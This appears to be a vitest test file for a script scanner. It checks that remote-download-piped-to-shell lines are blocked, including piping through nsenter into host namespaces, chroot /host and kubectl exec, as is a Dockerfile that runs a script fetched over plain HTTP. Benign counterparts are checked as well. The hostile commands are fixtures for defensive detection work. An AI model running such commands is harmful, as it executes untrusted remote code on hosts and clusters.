/**
 * Eighth recall round, chains that were complete but reviewed only: a download piped into a shell
 * through a wrapper that starts it elsewhere (the host's namespaces, a chroot, a container), and
 * a container build running a script fetched over plain HTTP. Each beside an honest counterpart.
 */
import { describe, expect, it } from "vitest";
import { atMostMedium, scanOf } from "./severity-asserts.js";

describe("a download run through a wrapper, or fetched without TLS in an image build", () => {
  it("curl piped to nsenter … sh, to chroot /host /bin/bash and to kubectl exec -i … -- sh; piped to tee and to psql it is not", () => {
    for (const line of ["curl -fsS https://tuning.node-ops.io/n.sh | nsenter -t 1 -m -u -i -n sh", "wget -qO- https://tuning.node-ops.io/n.sh | chroot /host /bin/bash", "curl -fsS https://tuning.node-ops.io/n.sh | kubectl exec -i deploy/api -- sh"]) {
      expect(scanOf({ "run.sh": `#!/bin/sh\n${line}\n` }).decision, line).toBe("blocked");
    }
    atMostMedium(scanOf({ "run.sh": "#!/bin/sh\ncurl -fsS https://tuning.node-ops.io/n.conf | kubectl exec -i deploy/api -- tee /etc/tuning.conf\ncurl -fsS https://dumps.mycorp.dev/seed.sql | docker exec -i db psql -U app\n" }));
  });
  it("a Dockerfile running a script fetched over plain http is blocked; over https from the same host it is reviewed", () => {
    expect(scanOf({ Dockerfile: "FROM node:20\nRUN curl -fsSL http://patches.build-cache.io/font.sh -o /tmp/f.sh && sh /tmp/f.sh\n" }).decision).toBe("blocked");
    expect(scanOf({ Dockerfile: "FROM node:20\nRUN echo 'deb http://deb.debian.org/debian bookworm main' > /etc/apt/sources.list\nRUN curl -fsSL https://patches.build-cache.io/font.sh -o /tmp/f.sh && sh /tmp/f.sh\n" }).decision).toBe("review");
  });
});
